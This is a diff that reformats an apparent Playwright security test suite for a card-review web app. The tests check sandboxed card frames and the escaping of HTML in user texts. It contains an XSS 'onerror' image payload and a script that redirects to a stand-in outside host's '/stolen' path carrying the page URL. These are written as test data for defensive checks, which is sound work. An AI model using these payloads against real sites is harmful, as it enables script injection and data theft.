@@ -102,14 +102,22 @@ def hostile_project(root: Path, script: str) -> Path:
 
 
 def test_a_card_reaches_nothing(tmp_path: Path, browser: Browser) -> None:
-    """No parent, no storage, no network, no form, no navigation, no key that writes; nothing is changed."""
+    """No parent, no storage, no network, no form, no navigation, no key that writes; nothing is
+    changed.
+    """
     with outside() as (address, asked):
         project = hostile_project(tmp_path, "SCRIPT")
-        files = {path: path.read_bytes() for path in project.rglob("*") if path.is_file() and path.suffix == ".yaml"}
+        files = {
+            path: path.read_bytes()
+            for path in project.rglob("*")
+            if path.is_file() and path.suffix == ".yaml"
+        }
         with running(project) as studio:
             template = project / "templates" / "base" / "card.html.j2"
             attack = ATTACK.replace("OUTSIDE", address).replace("STUDIO", studio)
-            template.write_text(template.read_text(encoding="utf-8").replace("SCRIPT", attack), encoding="utf-8")
+            template.write_text(
+                template.read_text(encoding="utf-8").replace("SCRIPT", attack), encoding="utf-8"
+            )
             page = browser.new_context().new_page()
             page.goto(studio)
             title = page.title()
@@ -132,7 +140,9 @@ def test_a_card_reaches_nothing(tmp_path: Path, browser: Browser) -> None:
 def test_a_card_cannot_leave_its_frame_for_elsewhere(tmp_path: Path, browser: Browser) -> None:
     """A frame may navigate itself; the page around it lets it go nowhere but to cards."""
     with outside() as (address, asked):
-        project = hostile_project(tmp_path, f"<script>location.href = '{address}/stolen?' + location.href;</script>")
+        project = hostile_project(
+            tmp_path, f"<script>location.href = '{address}/stolen?' + location.href;</script>"
+        )
         with running(project) as studio:
             page = browser.new_context().new_page()
             page.goto(studio)
@@ -143,7 +153,9 @@ def test_a_card_cannot_leave_its_frame_for_elsewhere(tmp_path: Path, browser: Br
 
 
 def test_texts_are_no_html(tmp_path: Path, look: Callable[..., Page]) -> None:
-    """Ids, prompts, tags, actors, names, findings and quotations with HTML in them are shown as they are written."""
+    """Ids, prompts, tags, actors, names, findings and quotations with HTML in them are shown as
+    they are written.
+    """
     evil = "<img src=x onerror=\"document.title='taken'\">"
     root = small_project(tmp_path, 3)
     path = root / "cards/small/questions.yaml"
@@ -155,11 +167,13 @@ def test_texts_are_no_html(tmp_path: Path, look: Callable[..., Page]) -> None:
         f"id: small-deck-1\nname: >-\n  Small {evil}\nsource: text\n", encoding="utf-8"
     )
     (root / "seeds/text.yaml").write_text(
-        f"title: >-\n  {evil}\nvoice: the text\nlanguage: en\nactors:\n  ? >-\n    {evil}\n  : []\n", encoding="utf-8"
+        f"title: >-\n  {evil}\nvoice: the text\nlanguage: en\nactors:\n  ? >-\n    {evil}\n  : []\n",
+        encoding="utf-8",
     )
     source = root / "seeds/text.txt"
     source.write_text(
-        source.read_text(encoding="utf-8") + f"Nobody quotes {evil} in this sentence.\n", encoding="utf-8"
+        source.read_text(encoding="utf-8") + f"Nobody quotes {evil} in this sentence.\n",
+        encoding="utf-8",
     )
     with running(root) as address:
         page = look(address)
@@ -167,7 +181,9 @@ def test_texts_are_no_html(tmp_path: Path, look: Callable[..., Page]) -> None:
         expect(card_of(page).locator(".prompt")).to_contain_text("onerror")
         page.keyboard.press("g")
         page.keyboard.press("n")
-        expect(page.locator("[data-quote]").first).to_have_value(f"Nobody quotes {evil} in this sentence.")
+        expect(page.locator("[data-quote]").first).to_have_value(
+            f"Nobody quotes {evil} in this sentence."
+        )
         page.locator("[data-value=question]").fill(evil)
         page.locator("[data-value=answer]").fill("x" + evil)
         page.wait_for_selector("#detail .finding")
